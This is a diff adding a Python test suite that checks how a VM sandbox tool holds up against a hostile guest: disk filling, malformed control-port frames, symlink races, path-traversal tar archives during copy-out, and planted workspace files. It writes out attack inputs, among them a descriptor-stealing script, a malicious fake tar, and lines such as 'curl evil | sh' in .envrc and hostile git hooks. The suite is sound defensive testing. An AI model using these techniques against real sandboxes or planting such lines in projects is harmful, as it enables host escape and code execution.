@@ -1,0 +1,310 @@
+"""What a hostile guest does to this host without the network: its disk, the ports of its machine, files that are copied out
+of it, and files of the workspace that programs of the host obey (threats 90, 91, 93, 94)."""
+import json
+import os
+import pathlib
+import subprocess
+import time
+import unittest
+
+from harness import SBX, Home, wait_for
+
+ROOT = os.geteuid() == 0
+MIB = 1 << 20
+
+
+def free(path):
+    v = os.statvfs(path)
+    return v.f_bavail * v.f_frsize
+
+
+@unittest.skipUnless(ROOT, "mounts small disks")
+class Disk(unittest.TestCase):
+    """The host's disk, played by a tmpfs of its own for the machine's state and for the workspace."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.h = h = Home()
+        cls.addClassCleanup(h.close)
+        cls.state = h.dir / "data/sbx/sandboxes"
+        cls.state.mkdir(mode=0o700)
+        for path, size in ((cls.state, "500m"), (h.ws, "200m")):
+            subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0700", "tmpfs", str(path)], check=True)
+            cls.addClassCleanup(subprocess.run, ["umount", "-l", str(path)])
+        h.sbx("config", "set", "limit.keep_free", "100")
+        h.sbx("create", "--name", "full", "shell", h.ws)
+        h.sbx("start", "full")
+
+    def test_threat_94_a_workspace_cannot_fill_the_hosts_disk(self):
+        h = self.h
+        r = h.sh("full", f"dd if=/dev/zero of={h.ws}/big bs=1M count=400 conv=fsync")
+        self.assertNotEqual(r.returncode, 0)
+        self.assertIn(b"No space left", r.stderr)
+        # Never beyond what is kept, but for what was under way between two looks.
+        self.assertGreater(free(h.ws), 100 * MIB - 17 * MIB)
+        self.assertIn(b"No space left", h.sh("full", f"echo x > {h.ws}/another; sync {h.ws}/another").stderr + h.sh("full", f"mkdir {h.ws}/d").stderr)
+        # What it cannot fill it does not have, and it can make room itself.
+        self.assertEqual(h.sh("full", f"df --output=avail {h.ws} | tail -1").stdout.strip(), b"0")
+        r = h.sh("full", f"rm {h.ws}/big && sleep 0.5 && echo y > {h.ws}/after && cat {h.ws}/after")
+        self.assertEqual((r.returncode, r.stdout), (0, b"y\n"), r.stderr)
+
+    def test_threat_94_a_machine_is_paused_before_the_disk_is_full_and_goes_on(self):
+        h = self.h
+        writer = subprocess.Popen([SBX, "exec", "full", "sh", "-c",
+                                   "dd if=/dev/urandom of=/var/tmp/big bs=1M count=700 conv=fsync 2>/dev/null; echo status $?; rm /var/tmp/big"],
+                                  env=h.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+        try:
+            self.assertTrue(wait_for(lambda: "paused" in h.ls()["full"]["reason"], 120, 0.3), h.ls()["full"])
+            self.assertIn("running: paused", h.sbx("ls"))
+            self.assertGreater(free(self.state), 0)
+            stands = free(self.state)
+            time.sleep(2)
+            self.assertGreater(free(self.state), stands - MIB)
+            # Room is made (here: the reserve is made smaller), and the same program goes on.
+            h.sbx("config", "set", "limit.keep_free", "10")
+            self.assertTrue(wait_for(lambda: "paused" not in h.ls()["full"]["reason"], 20, 0.2))
+            # It fills what is left, and is stopped in order while it is paused again.
+            self.assertTrue(wait_for(lambda: "paused" in h.ls()["full"]["reason"] or writer.poll() is not None or h.ls()["full"]["state"] != "running", 120, 0.3))
+            h.sbx("stop", "full", timeout=60)
+            self.assertIn(h.ls()["full"]["state"], ("stopped", "failed"))
+        finally:
+            writer.kill()
+            writer.communicate()
+            h.sbx("config", "set", "limit.keep_free", "100")
+
+    def test_threat_94_its_own_disk_has_the_size_that_was_chosen(self):
+        out = self.h.sh("full", "lsblk -bdno SIZE /dev/vdb").stdout.split()
+        if out:
+            self.assertLessEqual(int(out[0]), 20480 * MIB)
+
+    def test_threat_94_what_the_guest_prints_does_not_grow_the_logs(self):
+        self.h.run("exec", "-u", "root", "full", "sh", "-c", "yes 0123456789012345678901234567890123456789 | head -c 30000000 > /dev/hvc0")
+        sizes = [p.stat().st_size for p in (self.state / "full").glob("*.log*")]
+        self.assertLess(max(sizes), 5 * MIB)
+
+
+# Root in the guest takes the descriptor of a port out of PID 1: everything that PID 1 may send, it may send.
+SEIZE = r"""
+import ctypes, json, os, struct, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+def port(name):
+    for p in os.listdir("/sys/class/virtio-ports"):
+        try:
+            if open(f"/sys/class/virtio-ports/{p}/name").read().strip() != name:
+                continue
+        except OSError:
+            continue
+        for n in os.listdir("/proc/1/fd"):
+            if os.readlink(f"/proc/1/fd/{n}").endswith(p):
+                fd = libc.syscall(438, libc.syscall(434, 1, 0), int(n), 0)
+                assert fd >= 0, os.strerror(ctypes.get_errno())
+                return fd
+    raise SystemExit("no port " + name)
+def send(fd, data):
+    while data:
+        try:
+            data = data[os.write(fd, data):]
+        except BlockingIOError:
+            time.sleep(0.01)
+def frame(length, kind=1, stream=0, chan=0, payload=b""):
+    return struct.pack("<IBBH", length, kind, stream, chan) + payload
+def ctrl(text):
+    return frame(len(text), 1, 0, 0, text)
+"""
+FRAMES = {
+    "huge": "frame(0xffffffff)",
+    "negative": "frame(0x80000000)",
+    "one byte too long": "frame(65537, 1, 0, 0, b'{' * 65537)",
+    "unknown type": "frame(0, 77)",
+    "unknown stream": "frame(1, 2, 200, 1, b'x')",
+    "no JSON": "ctrl(b'{\"op\":')",
+    "deep JSON": "ctrl(b'[' * 60000)",
+    "split, and others' frames in between": "frame(60000, 1) + b'{'",
+    "data for channels that nobody opened": "b''.join(frame(1000, 2, 0, c, b'x' * 1000) for c in range(1, 3000))",
+    "credit beyond all bounds": "b''.join(frame(4, 4, 0, c, b'\\xff' * 4) for c in range(0, 300)) * 2",
+    "a flood of notes": "ctrl(json.dumps({'op': 'log', 'text': 'x' * 30000}).encode()) * 300",
+    "replies that nobody waits for": "b''.join(ctrl(json.dumps({'op': 'reply', 'id': i, 'ok': True}).encode()) for i in range(5000))",
+    "hello again": "ctrl(b'{\"op\":\"hello\",\"version\":1,\"phase\":\"waiting\",\"boot_ms\":1}')",
+    "wrong types": "ctrl(b'{\"op\":\"exit\",\"chan\":\"x\",\"status\":[]}') + ctrl(b'{\"op\":7}') + ctrl(b'[]')",
+}
+MESSAGES = {
+    "huge": "struct.pack('<IIQQIIII', 0xffffffff, 3, 1, 1, 0, 0, 0, 0)",
+    "nothing": "struct.pack('<IIQQIIII', 0, 3, 1, 1, 0, 0, 0, 0)",
+    "less than a header": "struct.pack('<IIQQIIII', 39, 3, 1, 1, 0, 0, 0, 0)",
+    "a made-up inode": "b''.join(struct.pack('<IIQQIIII', 56, 3, 1000000 + i, i << 40 | 7, 0, 0, 0, 0) + bytes(16) for i in range(1000))",
+    "an unknown request": "b''.join(struct.pack('<IIQQIIII', 40, op, 2000000 + op, 1, 0, 0, 0, 0) for op in range(40, 5000))",
+    "a name without an end": "struct.pack('<IIQQIIII', 44, 1, 3000000, 1, 0, 0, 0, 0) + b'abcd'",
+    "a name with a slash": "struct.pack('<IIQQIIII', 48, 1, 3000001, 1, 0, 0, 0, 0) + b'../../x\\0'",
+    "half a message": "struct.pack('<IIQQIIII', 60000, 16, 3000002, 1, 0, 0, 0, 0)",
+}
+
+
+class Guest(unittest.TestCase):
+    """A hostile sandbox, and a good one beside it that must not notice."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.h = h = Home()
+        cls.addClassCleanup(h.close)
+        cls.outside = h.dir / "outside"
+        cls.outside.mkdir()
+        (cls.outside / "secret").write_text("the host's own\n")
+        (h.ws / "bad").mkdir()
+        (h.ws / "good").mkdir()
+        cls.ws = h.ws / "bad"
+        for name in ("bad", "good"):
+            h.sbx("create", "--name", name, "shell", h.ws / name)
+            h.sbx("start", name)
+
+    def attack(self, script, seconds=60):
+        return self.h.run("exec", "-u", "root", "-i", "bad", "timeout", "20", "python3", "-", input=(SEIZE + script).encode(), timeout=seconds)
+
+    def after(self, what, words):
+        """It is up, or down for a reason that is told; nothing else has suffered."""
+        time.sleep(0.3)
+        self.h.run("exec", "bad", "true", timeout=30)
+        st = wait_for(lambda: next((s for s in [self.h.ls()["bad"]] if s["state"] in ("running", "failed")), None), 20)
+        self.assertTrue(st, what)
+        if st["state"] == "failed":
+            self.assertRegex(st["reason"], words, what)
+        self.assertEqual(self.h.sh("good", "echo fine").stdout, b"fine\n", what)
+        log = (self.h.dir / "data/sbx/sandboxes/bad/sbx.log").read_text(errors="replace")
+        self.assertNotRegex(log, r"ended: signal (4|6|7|8|11)\b", what)
+        if st["state"] == "failed":
+            self.h.sbx("start", "bad")
+        return st["state"]
+
+    def test_threat_90_frames_that_lie_on_the_control_port(self):
+        ends = {}
+        for what, payload in FRAMES.items():
+            self.attack(f"send(port('sbx.ctl'), {payload})\ntime.sleep(0.2)")
+            ends[what] = self.after(what, "protocol|init started over")
+        for what in ("huge", "negative", "one byte too long", "unknown type", "no JSON", "split, and others' frames in between"):
+            self.assertEqual(ends[what], "failed", ends)
+
+    def test_threat_90_messages_that_lie_on_the_port_of_files(self):
+        for what, payload in MESSAGES.items():
+            self.attack(f"send(port('sbx.fs'), {payload})\ntime.sleep(0.2)")
+            self.after(what, "workspace|protocol")
+        self.assertEqual(self.h.sh("bad", f"echo new > {self.ws}/new && cat {self.ws}/new", timeout=60).stdout, b"new\n")
+        self.assertEqual((self.outside / "secret").read_text(), "the host's own\n")
+
+    def test_threat_91_links_in_the_workspace_lead_nowhere(self):
+        h = self.h
+        r = h.sh("bad", f"""cd {self.ws}; ln -sfn {self.outside} l; ln -sfn ../../outside up; ln -sfn {self.outside}/secret f
+            cat l/secret; cat up/secret; cat f; echo x > l/new; echo x > up/new; echo x > f; cat ../../outside/secret; ls l/ up/; true""")
+        self.assertNotIn(b"host's own", r.stdout)
+        # The host's secret, in the meantime, through a folder that is a link every other moment.
+        r = h.sh("bad", f"""cd {self.ws}; mkdir -p real; echo mine > real/secret
+            (for i in $(seq 400); do mv -T real swap 2>/dev/null; ln -sfn {self.outside} real; rm -f real; mv -T swap real; done) &
+            for i in $(seq 400); do cat real/secret 2>/dev/null; echo x > real/new 2>/dev/null; done; wait""", timeout=120)
+        self.assertNotIn(b"host's own", r.stdout)
+        self.assertEqual(sorted(p.name for p in self.outside.iterdir()), ["secret"])
+        self.assertEqual((self.outside / "secret").read_text(), "the host's own\n")
+
+    def test_threat_91_what_is_copied_out_stays_in_its_folder(self):
+        h = self.h
+        fake = f"""#!/usr/bin/python3
+import io, sys, tarfile
+t = tarfile.open(fileobj=sys.stdout.buffer, mode="w|")
+def add(name, type=tarfile.REGTYPE, link="", mode=0o644, data=b"evil"):
+    i = tarfile.TarInfo(); i.name = name; i.type = type; i.linkname = link; i.mode = mode
+    i.size = len(data) if type == tarfile.REGTYPE else 0
+    if type in (tarfile.CHRTYPE, tarfile.BLKTYPE): i.devmajor, i.devminor = 1, 3
+    t.addfile(i, io.BytesIO(data) if i.size else None)
+add("x", tarfile.DIRTYPE, mode=0o755)
+add("x/fine")
+for n in ("{self.outside}/abs", "../escape", "x/../../escape", "x/..", "./../escape", "x/./../../escape", "..", "/", "x//../../escape"): add(n)
+add("x/l", tarfile.SYMTYPE, "{self.outside}"); add("x/l/through")
+add("x/h", tarfile.LNKTYPE, "{self.outside}/secret"); add("x/h")
+add("x/l2", tarfile.SYMTYPE, "{self.outside}/secret"); add("x/l2")
+add("x/l3", tarfile.SYMTYPE, ".."); add("x/l3/escape")
+add("x/null", tarfile.CHRTYPE); add("x/pipe", tarfile.FIFOTYPE)
+add("x/suid", mode=0o6755)
+add("x", tarfile.SYMTYPE, "{self.outside}"); add("x/late")
+t.close()
+"""
+        h.run("exec", "-u", "root", "-i", "bad", "sh", "-c", "mv -n /usr/bin/tar /usr/bin/tar.real; cat > /usr/bin/tar; chmod 755 /usr/bin/tar", input=fake.encode())
+        out = h.dir / "copies"
+        out.mkdir(exist_ok=True)
+        try:
+            h.run("cp", "bad:/tmp/x", out / "x")
+            h.run("cp", "bad:/tmp/x", out)
+        finally:
+            h.run("exec", "-u", "root", "bad", "sh", "-c", "cp /usr/bin/tar.real /usr/bin/tar")
+        self.assertEqual(sorted(p.name for p in self.outside.iterdir()), ["secret"])
+        self.assertEqual((self.outside / "secret").read_text(), "the host's own\n")
+        self.assertEqual((self.outside / "secret").stat().st_nlink, 1)
+        self.assertEqual([p.name for p in out.iterdir()], ["x"])
+        self.assertFalse(list(h.dir.glob("escape*")) + list(h.dir.parent.glob("escape*")))
+        for p in out.rglob("*"):
+            st = p.lstat()
+            self.assertTrue(p.is_symlink() or p.is_file() or p.is_dir(), p)
+            self.assertFalse(st.st_mode & 0o7000, p)
+
+    def test_threat_91_what_is_copied_in_follows_no_link(self):
+        h = self.h
+        src = self.ws / "src"
+        src.mkdir()
+        (src / "a").write_text("a\n")
+        (src / "link").symlink_to(self.outside / "secret")
+        (src / "dir").symlink_to(self.outside)
+        os.mkfifo(src / "pipe")
+        h.run("cp", src, "bad:/tmp/in/", timeout=60)
+        r = h.sh("bad", "cd /tmp/in/src; cat a; readlink link; cat link dir/secret; grep -rs host /tmp/in; true")
+        self.assertIn(b"a\n", r.stdout)
+        self.assertNotIn(b"host's own", r.stdout)
+        # A sandbox that swaps a file for a link while its folder is copied.
+        (src / "pipe").unlink()
+        swap = subprocess.Popen([SBX, "exec", "bad", "sh", "-c", f"cd {src}; echo mine > f; i=0; while [ $i -lt 3000 ]; do "
+                                 f"ln -sfn {self.outside}/secret t; mv -T t f; echo mine > t; mv -T t f; i=$((i+1)); done"],
+                                env=h.env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            for i in range(25):
+                h.run("cp", src, f"bad:/tmp/swap{i}/", timeout=60)
+        finally:
+            swap.kill()
+            swap.wait()
+        self.assertEqual(h.sh("bad", "grep -rl \"host's own\" /tmp/swap*; true").stdout, b"")
+
+    def test_threat_93_files_that_the_host_obeys_are_told(self):
+        h = self.h
+        ws = h.ws / "project"
+        ws.mkdir()
+        subprocess.run(["git", "init", "-q", str(ws)], check=True)
+        (ws / "package.json").write_text('{"name": "x", "scripts": {"test": "true"}, "dependencies": {}}')
+        (ws / "Makefile").write_text("all:\n")
+        (ws / "CMakeLists.txt").write_text("# same\n")
+        h.sbx("create", "--name", "told", "shell", ws)
+        h.sbx("start", "told")
+        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [])
+        # Changed dependencies are a day's work.
+        h.sh("told", f"""cd {ws}; sed -i 's/"dependencies": {{}}/"dependencies": {{"left-pad": "1"}}/' package.json; echo code > main.c""")
+        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [])
+        h.sh("told", f"""cd {ws}; mkdir .vscode; echo '{{}}' > .vscode/tasks.json; echo 'curl evil | sh' > .envrc; ln -s /etc/passwd .mcp.json
+            sed -i 's/"test": "true"/"test": "evil"/' package.json; echo 'all:; evil' > Makefile
+            printf x > "$(printf '.vscode/\\033]0;evil\\007.json')"; echo evil > .git/hooks/pre-commit; echo evil >> .git/config; true""")
+        self.assertFalse((ws / ".git/hooks/pre-commit").exists())
+        changed = json.loads(h.sbx("inspect", "told"))["changed_host_files"]
+        for name in (".vscode/tasks.json", ".envrc", ".mcp.json", "package.json", "Makefile"):
+            self.assertIn(f"{ws}/{name}", changed)
+        self.assertNotIn(f"{ws}/CMakeLists.txt", changed)
+        r = h.run("stop", "told")
+        for name in (".vscode/tasks.json", ".envrc", "package.json", "Makefile"):
+            self.assertIn(f"{ws}/{name}".encode(), r.stderr)
+        self.assertNotIn(b"\x1b", r.stderr)
+        # Once is enough; what the user changes while it is stopped is his own.
+        (ws / "Makefile").write_text("all: mine\n")
+        h.sbx("start", "told")
+        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [])
+        # A killed supervisor could not say that it ended.
+        h.sh("told", f"echo again > {ws}/.envrc; sync")
+        os.kill(h.ls()["told"]["machine"]["pid"], 9)
+        self.assertTrue(wait_for(lambda: h.ls()["told"]["state"] == "failed"))
+        self.assertEqual(json.loads(h.sbx("inspect", "told"))["changed_host_files"], [f"{ws}/.envrc"])
+        r = h.run("run", "--name", "told", "--", "-c", "true")
+        self.assertIn(f"{ws}/.envrc".encode(), r.stderr, r)
+
+
+if __name__ == "__main__":
+    unittest.main()
